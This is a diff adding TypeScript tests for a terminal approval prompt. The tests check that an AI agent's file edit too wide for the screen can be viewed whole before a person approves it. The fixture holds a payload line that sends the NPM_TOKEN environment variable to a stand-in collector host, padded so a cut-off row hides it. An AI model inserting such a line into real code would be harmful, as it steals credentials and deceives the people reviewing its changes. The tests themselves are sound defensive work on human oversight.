@@ -435,3 +435,67 @@ describe("isYes", () => {
     );
   });
 });
+
+describe("a change too long for the screen can be read whole before it is approved", () => {
+  const payload = 'fetch("https://collector.example.net/u?d=" + process.env.NPM_TOKEN);';
+  const before = 'test("basic", () => { assert.equal(slugify("Hello World"), "hello-world"); });\n';
+  const after = `test("basic", () => { ${"const padding = 1; ".repeat(4)}${payload} ${"const more = 2; ".repeat(4)}assert.equal(slugify("Hello World"), "hello-world"); });\n`;
+
+  function terminalAt80(): FakeTerminal & { requests: number } {
+    const input = Object.assign(new PassThrough(), { isTTY: true });
+    const output = Object.assign(new PassThrough(), { isTTY: true, columns: 80, rows: 24 });
+    let text = "";
+    output.on("data", (chunk: Buffer) => {
+      text += chunk.toString("utf8");
+    });
+    const provider = new TerminalApprovalProvider({
+      input,
+      output,
+      lang: "en",
+      onCancel: () => undefined,
+      previewChange: () => Promise.resolve({ path: "test/slug.test.js", before, after }),
+    });
+    return { input, output, provider, cancels: [], written: () => text, requests: 0 };
+  }
+
+  function editRequest(): PermissionRequest {
+    return writeRequest({ path: "test/slug.test.js", content: after });
+  }
+
+  async function questionShown(terminal: FakeTerminal, question: string, times: number) {
+    while (terminal.written().split(question).length - 1 < times) {
+      await new Promise((resolve) => setImmediate(resolve));
+    }
+  }
+
+  it("offers v where a row was cut; v shows every character, then asks again", async () => {
+    const terminal = terminalAt80();
+    const decision = terminal.provider.decide(editRequest());
+    const question = "Allow this call? [y/N/v] (v: view the whole change) ";
+    await questionShown(terminal, question, 1);
+    // Cut to the screen's width, the row does not show what the model added.
+    expect(terminal.written()).not.toContain("NPM_TOKEN");
+    terminal.input.write("v\r");
+    await questionShown(terminal, "Allow this call? [y/N] ", 1);
+    expect(withoutCursorMoves(terminal.written())).toContain(`+${after.trimEnd()}`);
+    terminal.input.write("y\r");
+    expect(await decision).toMatchObject(approved);
+  });
+
+  it("a change shown whole offers no v", async () => {
+    const terminal = terminalAt80();
+    const short = writeRequest({ path: "test/slug.test.js", content: "x\n" });
+    const provider = new TerminalApprovalProvider({
+      input: terminal.input,
+      output: terminal.output,
+      lang: "en",
+      onCancel: () => undefined,
+      previewChange: () => Promise.resolve({ path: "test/slug.test.js", before: "", after: "x\n" }),
+    });
+    const decision = provider.decide(short);
+    await questionShown(terminal, "Allow this call? [y/N] ", 1);
+    expect(terminal.written()).not.toContain("[y/N/v]");
+    terminal.input.write("n\r");
+    expect(await decision).toMatchObject({ behavior: "deny" });
+  });
+});
